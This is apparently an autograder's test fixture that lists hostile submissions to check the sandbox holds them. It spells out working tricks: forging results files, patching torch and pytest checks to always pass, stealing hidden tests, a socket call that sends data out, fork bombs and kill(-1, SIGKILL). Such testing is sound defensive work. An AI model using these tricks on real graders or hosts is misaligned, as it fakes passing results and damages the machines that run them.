"""Hostile submissions for assignment 1 (blocks), one attack each.

Each is the same honest work (MLP done, worth 3 points; every other task still a stub) plus an
attack. `score` is what it must earn: its honest work and nothing more (0 where the attack
keeps the module from loading at all). `modes` lists the sandboxes an attack is run in: those
that would harm the machine running the tests if they got through are run only where the
namespaces hold them (never in the basic sandbox, where they would get through).
"""

from __future__ import annotations

import os
import textwrap
from dataclasses import dataclass, field

ALL = ("root", "user", "basic")
NAMESPACES = ("root", "user")
HONEST = 3


@dataclass
class Attack:
    name: str
    code: str  # appended to the honest module; may redefine MySequential
    score: float = HONEST
    status: str | dict[str, str] = "graded"  # or one per sandbox mode
    modes: tuple[str, ...] = ALL
    files: dict[str, str] = field(default_factory=dict)  # other files shipped with the submission


def _seq(body: str) -> str:
    """Redefine MySequential so that constructing one runs `body` (the attack runs in a probe)."""
    return (
        "class MySequential(nn.Module):\n    def __init__(self, *modules):\n"
        + textwrap.indent(textwrap.dedent(body).strip(), "        ")
        + "\n"
    )


FORGE = """
def _forge():
    import json, os, time
    fake = {"score": 20, "tests": [{"name": "all", "score": 20, "max_score": 20}]}
    places = [os.getcwd(), os.path.dirname(os.getcwd()), "/tmp", "/autograder/results", os.path.expanduser("~")]
    give_up = time.monotonic() + 0.5  # a quick look: a clone with its venv in /tmp is a big tree
    for top in ("/tmp", "/work", "/autograder"):
        for here, dirs, files in os.walk(top):
            dirs[:] = [d for d in dirs if d not in (".venv", ".git", "site-packages", "node_modules")]
            if here.count(os.sep) > 8 or time.monotonic() > give_up:
                dirs[:] = []
            if "gradebook.csv" in files or "results.json" in files:
                places.append(here)
    for place in places:
        for name in ("results.json", "gradebook.csv", "feedback.md"):
            try:
                with open(os.path.join(place, name), "w") as f:
                    f.write(json.dumps(fake) if name.endswith("json") else "forged")
            except OSError:
                pass
"""


FORGE_FRAMES = """
def _forge_frames():
    import json, os, struct
    def frame(obj):
        data = obj if isinstance(obj, bytes) else json.dumps(obj).encode()
        return struct.pack(">Q", len(data)) + data
    forged = b"".join(frame(m) for m in (
        {"e": "import"}, {"e": "imported", "notes": [], "present": ["MySequential"]},
        {"e": "start", "job": 0}, {"e": "done", "job": 0, "ok": True, "seconds": 0.0, "sizes": [2, 0]}, b"{}", b"",
    ))
    for fd in sorted(int(x) for x in os.listdir("/proc/self/fd")):
        if fd > 2:
            try:
                os.write(fd, forged)
            except OSError:
                pass
"""


def attacks(marker: str, port: int) -> list[Attack]:
    """`marker` tags processes and files the attacks leave behind; `port` is a test's listening socket."""
    return [
        Attack("exit-os-at-import", "import os\nos._exit(0)\n", score=0, status="crashed"),
        Attack("exit-os-in-probe", _seq("import os\nos._exit(0)"), status="crashed"),
        Attack("exit-system-at-import", "raise SystemExit(0)\n", status="import error"),
        Attack("exit-keyboard-interrupt", _seq("raise KeyboardInterrupt")),
        Attack("exit-pytest-exit", "import pytest\n" + _seq("pytest.exit('all tests passed', returncode=0)")),
        Attack(
            "exit-pytest-skip",
            "import pytest\npytest.skip('nothing to see', allow_module_level=True)\n" + _seq("pytest.skip('skipped')"),
            status="import error",
        ),
        Attack("forge-results-now", FORGE + "_forge()\n"),
        Attack(
            "forge-results-later",
            FORGE
            + textwrap.dedent(
                f"""
                import os, sys, time
                if os.fork() == 0:
                    os.setsid()
                    if os.fork() == 0:
                        sys.argv[0] = "{marker}"
                        time.sleep(1.5)
                        _forge()
                        time.sleep(30)
                    os._exit(0)
                """
            ),
        ),
        Attack(
            "monkeypatch-torch",
            textwrap.dedent(
                """
                import torch, torch.testing
                torch.allclose = lambda *a, **k: True
                torch.equal = lambda *a, **k: True
                torch.testing.assert_close = lambda *a, **k: None
                torch.Tensor.__eq__ = lambda self, other: torch.ones((), dtype=torch.bool)
                torch.isclose = lambda a, b, **k: torch.ones_like(a, dtype=torch.bool)
                """
            )
            + _seq("super().__init__()\nself.layers = []")
            + "    def forward(self, X):\n        return torch.zeros(1)\n",
        ),
        Attack(
            "monkeypatch-pytest-unittest",
            textwrap.dedent(
                """
                import pytest, unittest
                pytest.approx = lambda *a, **k: True
                pytest.fail = lambda *a, **k: None
                unittest.TestCase.assertEqual = lambda *a, **k: None
                unittest.TestCase.assertTrue = lambda *a, **k: None
                """
            ),
        ),
        Attack(
            "tensor-subclass",
            textwrap.dedent(
                """
                class Liar(torch.Tensor):
                    @classmethod
                    def __torch_function__(cls, func, types, args=(), kwargs=None):
                        if getattr(func, "__name__", "") in ("__eq__", "eq", "allclose", "equal", "isclose"):
                            return True
                        return super().__torch_function__(func, types, args, kwargs or {})
                """
            )
            + _seq("super().__init__()\nself.n = len(modules)")
            + "    def forward(self, X):\n        return torch.zeros(X.shape[0], 10).as_subclass(Liar)\n"
            + "    def __len__(self):\n        return torch.tensor(self.n).as_subclass(Liar)\n",
        ),
        Attack(
            "shipped-files",
            "",
            files={
                "conftest.py": "def pytest_runtest_makereport(item, call):\n    call.excinfo = None\n",
                "pytest.py": "raise SystemExit('fake pytest')\n",
                "torch.py": "raise SystemExit('fake torch')\n",
                "sitecustomize.py": "import os\nos.environ['HACKED'] = '1'\n",
                "usercustomize.py": "import builtins\nbuiltins.__import__ = None\n",
            },
        ),
        Attack("loop-at-import", "while True:\n    pass\n", score=0, status="timed out"),
        Attack(
            "loop-ignoring-sigterm",
            "import signal\nsignal.signal(signal.SIGTERM, signal.SIG_IGN)\n" + _seq("while True:\n    pass"),
            status="timed out",
        ),
        Attack("memory-hog", _seq("hog = torch.empty(2**33, dtype=torch.uint8)\nhog.fill_(1)")),
        Attack(
            "process-spawner",
            _seq(
                f"""
                import subprocess, os
                for _ in range(5):
                    subprocess.Popen(["sleep", "{marker}"], start_new_session=True)
                children = []
                try:
                    for _ in range(100000):
                        pid = os.fork()
                        if pid == 0:
                            os.execvp("sleep", ["sleep", "{marker}"])
                        children.append(pid)
                except OSError:
                    pass
                raise RuntimeError(f"started {{len(children)}} processes")
                """
            ),
            # root mode, and user mode run by root (a fresh unprivileged uid per child):
            # RLIMIT_NPROC refuses the forks (an error in the student's code); user namespaces of an
            # unprivileged grader: the host's watchdog stops the tree (a crash)
            status={"root": "graded", "user": "graded" if os.geteuid() == 0 else "crashed"},
            modes=NAMESPACES,  # kept off a developer's machine where only the watchdog would hold
        ),
        Attack(
            "background-sleepers",
            "import subprocess\n"
            f"for _ in range(3):\n    subprocess.Popen(['sleep', '{marker}'], start_new_session=True)\n",
        ),
        Attack(
            "output-flood",
            _seq(
                "import sys\nchunk = 'x' * 65536\n"
                "for _ in range(800):\n    sys.stdout.write(chunk)\n    sys.stderr.write(chunk)"
            ),
        ),
        Attack(
            "read-hidden-tests",
            textwrap.dedent(
                """
                import os, sys
                STOLEN = []
                roots = ["/work", "/autograder", os.path.dirname(os.path.dirname(sys.modules["autograder"].__file__))]
                for top in roots:
                    for here, dirs, files in os.walk(top):
                        dirs[:] = [d for d in dirs if d not in (".venv", ".git", "site-packages")]
                        if here.count(os.sep) > 6:
                            dirs[:] = []
                        for name in files:
                            if name.startswith(("test_blocks", "probes")) and name.endswith(".py"):
                                try:
                                    STOLEN.append(open(os.path.join(here, name)).read())
                                except OSError:
                                    pass
                print("\\n".join(STOLEN))
                """
            )
            + _seq("raise RuntimeError('\\n'.join(STOLEN)[:1400] or 'nothing found')"),
        ),
        Attack(
            "network",
            textwrap.dedent(
                f"""
                import socket
                def _call_home():
                    try:
                        with socket.create_connection(("127.0.0.1", {port}), timeout=1) as s:
                            s.sendall(b"exfiltrated")
                    except OSError:
                        pass
                _call_home()
                """
            )
            + _seq("_call_home()\nraise RuntimeError('called home')"),
        ),
        Attack(
            "kill-everything",
            "import os, signal\ntry:\n    os.kill(-1, signal.SIGKILL)\nexcept OSError:\n    pass\n",
            modes=NAMESPACES,  # without namespaces, kill(-1) reaches every process the user owns
        ),
        # The data channel: frames made up without the run's nonce are refused wherever they come.
        Attack("channel-fake-frames", FORGE_FRAMES + _seq("_forge_frames()"), status="crashed"),
        Attack("channel-fake-frames-at-import", FORGE_FRAMES + "_forge_frames()\n", score=0, status="crashed"),
        # Judges rebuild the inputs: emptying the probe's input in place passes no check.
        Attack(
            "inputs-emptied-in-place",
            "class MySequential(nn.Module):\n"
            "    def __init__(self, *modules):\n        super().__init__()\n        self.mods = list(modules)\n"
            "    def forward(self, X):\n        X.data = X.data[:0]\n        return X\n",
        ),
        Attack(
            "rewrite-the-kit",
            textwrap.dedent(
                f"""
                import os, sys, torch, autograder
                for path in (autograder.__file__, os.path.join(os.path.dirname(autograder.__file__), "judge_runner.py"),
                             torch.__file__, os.path.join(os.path.dirname(torch.__file__), "{marker}.py")):
                    try:
                        with open(path, "a") as f:
                            f.write("\\n# rewritten by a submission\\n")
                    except OSError:
                        pass
                """
            ),
            modes=NAMESPACES,  # without namespaces a root grader's files are the submission's to change
        ),
    ]
